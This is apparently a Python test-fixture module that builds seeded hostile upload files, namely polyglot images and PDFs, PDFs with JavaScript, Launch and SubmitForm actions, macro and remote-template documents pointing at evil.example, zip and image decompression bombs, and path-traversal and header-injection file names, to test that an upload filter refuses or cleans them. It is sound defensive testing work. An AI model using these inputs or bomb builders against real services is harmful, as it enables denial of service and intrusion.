"""Files that somebody made to do harm, by families; seeded, so that what failed once can be looked at again."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from tests.features.files import document, paper, photo, zipped

MARK = b"EVIL-7f3a<script>alert(1)</script>"
"""Planted wherever a program could hide; nothing that is kept may hold it."""
ENDINGS = (".jpg", ".png", ".heic", ".pdf", ".docx", ".odt", ".xlsx")
NAMES = (
    "../../etc/passwd", "C:\\Windows\\system32\\cmd.exe", "facture.pdf.exe", "photo\u202egpj.exe", "\x00.jpg", "con.jpg", ".", "..", " ",
    "a" * 249, "👩‍👧.jpg",
    '"; filename="x.html', "x\r\nSet-Cookie: a=b", "<script>.svg", "nul.pdf", "é" * 120, "//srv/share.docx", "%2e%2e%2f",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """`refused`: nothing of it may be kept. Otherwise it may be, without the mark."""

    family: str
    name: str
    content: bytes
    refused: bool


def hostile_files(seed: int, count: int) -> Iterator[Hostile]:
    """Each family in turn."""
    chance = random.Random(seed)
    fair = {"jpg": photo(size=(48, 32)), "png": photo("PNG", (24, 16)), "heic": photo("HEIF", (64, 64)), "pdf": paper(), "docx": document()}
    for n in range(count):
        family, make, refused = FAMILIES[n % len(FAMILIES)]
        name = chance.choice(NAMES) if chance.random() < 0.3 else f"document{chance.choice(ENDINGS)}"
        yield Hostile(family, name, make(chance, fair), refused)


Fair = dict[str, bytes]
Make = Callable[[random.Random, Fair], bytes]


def _noise(chance: random.Random, fair: Fair) -> bytes:
    return chance.randbytes(chance.randrange(1, 3000))


def _program(chance: random.Random, fair: Fair) -> bytes:
    heads = (
        b"MZ\x90\x00", b"\x7fELF\x02\x01", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe\x00\x00", b"\xcf\xfa\xed\xfe", b"dex\n035\x00", b"PK\x05\x06",
    )  # fmt: skip
    return chance.choice(heads) + MARK + chance.randbytes(300)


def _page(chance: random.Random, fair: Fair) -> bytes:
    heads = (b"<!DOCTYPE html><html>", b"<svg xmlns='http://www.w3.org/2000'>", b"<?xml version='1.0'?><x>", b"\xef\xbb\xbf<html>", b"{")
    return chance.choice(heads) + MARK


def _cut(chance: random.Random, fair: Fair) -> bytes:
    content = fair[chance.choice(("jpg", "png", "pdf", "docx"))]
    return content[: chance.randrange(4, len(content) - 30)]


def _flipped(chance: random.Random, fair: Fair) -> bytes:
    content = bytearray(fair[chance.choice(sorted(fair))])
    for _ in range(chance.randrange(1, 12)):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return bytes(content)


def _behind_a_picture(chance: random.Random, fair: Fair) -> bytes:
    """A picture that is something else too: what hangs behind it goes."""
    behind = chance.choice((MARK, zipped({"run.js": MARK}), b"<html>" + MARK, b"%PDF-1.4\n" + MARK + b"\n%%EOF"))
    return fair[chance.choice(("jpg", "png"))] + behind


def _inside_a_picture(chance: random.Random, fair: Fair) -> bytes:
    """Where readers of pictures do not look: a comment, a text."""
    if chance.random() < 0.5:
        return fair["jpg"][:2] + b"\xff\xfe" + struct.pack(">H", len(MARK) + 2) + MARK + fair["jpg"][2:]
    return fair["png"][:33] + _chunk(b"tEXt", b"Comment\x00" + MARK) + fair["png"][33:]


def _two_files(chance: random.Random, fair: Fair) -> bytes:
    inner = zipped({"run.exe": MARK})
    return chance.choice((
        fair["pdf"] + inner, fair["pdf"][:-6] + inner + b"%%EOF\n", b"MZ" + fair["pdf"], b"<html>" + MARK + fair["pdf"],
        fair["docx"] + MARK, MARK + fair["docx"], fair["pdf"] + fair["docx"], fair["jpg"][:20] + fair["pdf"],
    ))  # fmt: skip


def _active_pdf(chance: random.Random, fair: Fair) -> bytes:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    names = chance.choice((
        script, b"<< /S /J#61vaScr#69pt >>", b"<< /S /Launch /F (cmd.exe) >>", b"<< /Type /EmbeddedFile /Length 0 >>",
        b"<< /AA << /O << /JS 4 0 R >> >> >>",
        b"<< /Subtype /RichMedia >>", b"<< /S /SubmitForm /F (http://evil.example) >>", b"<< /XFA [] >>", b"<< /Encrypt 9 0 R >>",
    ))  # fmt: skip
    if chance.random() < 0.3:
        packed = zlib.compress(b"1 0 " + script)
        names = b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
    return paper(b"(%d)" % chance.randrange(999), names)


def _active_document(chance: random.Random, fair: Fair) -> bytes:
    external = b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    return chance.choice((
        document(word__vbaProject_bin=MARK), document(word___rels__settings_rels=external), document(word__embeddings__oleObject1_bin=MARK),
        document(word__media__a=b"MZ" + MARK), document(word__media__b=b"\x7fELF" + MARK), document(word__x=b"\xd0\xcf\x11\xe0" + MARK),
        zipped({"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml wordprocessingml.document.main+xml"}),
        zipped({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]> wordprocessingml.document.main+xml"}),
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>", "Basic/Standard/Module1.xml": MARK}),
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b'<a xlink:href="vnd.sun.star.script:x"/>'}),
        zipped({"[Content_Types].xml": b"wordprocessingml.document.main+xml", "word/run.js": MARK}),
        zipped({"[Content_Types].xml": b"wordprocessingml.document.main+xml", "../../up.xml": MARK}),
    ))  # fmt: skip


def _another_zip(chance: random.Random, fair: Fair) -> bytes:
    return zipped({chance.choice(("readme.txt", "AndroidManifest.xml", "META-INF/MANIFEST.MF", "mimetype")): MARK, "a.txt": MARK})


def _bomb(chance: random.Random, fair: Fair) -> bytes:
    """Small, until somebody opens it."""
    kind = chance.randrange(12)
    if kind < 2:
        return _costly(kind)
    if kind < 6:
        return _crowded()
    return _claiming(200_000_000)


@cache
def _costly(kind: int) -> bytes:
    """Those that are only found out by opening them."""
    if kind == 0:
        return _lying(zipped({"[Content_Types].xml": b"wordprocessingml.document.main+xml", "word/document.xml": bytes(70_000_000)}))
    packed = zlib.compress(bytes(8_000_000), 9)
    return paper(*[b"<< /Filter /FlateDecode >>\nstream\n%s\nendstream" % packed] * 12)


def _claiming(size: int) -> bytes:
    """Its directory says how large it gets: nothing has to be opened."""
    content = bytearray(zipped({"[Content_Types].xml": b"wordprocessingml.document.main+xml"}))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(content)


@cache
def _crowded() -> bytes:
    return zipped({"[Content_Types].xml": b"wordprocessingml.document.main+xml"} | {f"word/{n}.xml": b"" for n in range(3100)})


def _lying(content: bytes) -> bytes:
    """Its directory says that it is small."""
    changed = bytearray(content)
    at = changed.rfind(b"PK\x01\x02")
    changed[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(changed)


def _huge_picture(chance: random.Random, fair: Fair) -> bytes:
    """A few bytes that say they are thousands of millions of pixels; or a text in a picture that inflates without end."""
    if chance.random() < 0.2:
        bomb = _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(30_000_000), 9))
        return fair["png"][:33] + bomb + fair["png"][33:]
    width, height = chance.randrange(9000, 65000), chance.randrange(9000, 65000)
    if chance.random() < 0.5:
        head = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        return head + _chunk(b"IDAT", zlib.compress(bytes(100_000), 9)) + _chunk(b"IEND", b"")
    at = fair["jpg"].find(b"\xff\xc0") + 5
    return fair["jpg"][:at] + struct.pack(">HH", height, width) + fair["jpg"][at + 4 :]


def _locked(chance: random.Random, fair: Fair) -> bytes:
    if chance.random() < 0.5:
        return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK + bytes(500)
    out = io.BytesIO(fair["docx"])
    with zipfile.ZipFile(out) as archive:
        flagged = bytearray(fair["docx"])
        for entry in archive.infolist():
            flagged[entry.header_offset + 6] |= 1
    at = -1
    while (at := flagged.find(b"PK\x01\x02", at + 1)) >= 0:
        flagged[at + 8] |= 1
    return bytes(flagged)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


FAMILIES: tuple[tuple[str, Make, bool], ...] = (
    ("noise", _noise, True), ("program", _program, True), ("page", _page, True), ("cut off", _cut, True), ("bits flipped", _flipped, False),
    ("behind a picture", _behind_a_picture, False), ("inside a picture", _inside_a_picture, False), ("two files", _two_files, True),
    ("active PDF", _active_pdf, True), ("active document", _active_document, True), ("another zip", _another_zip, True),
    ("bomb", _bomb, True), ("huge picture", _huge_picture, False), ("locked", _locked, True),
)  # fmt: skip
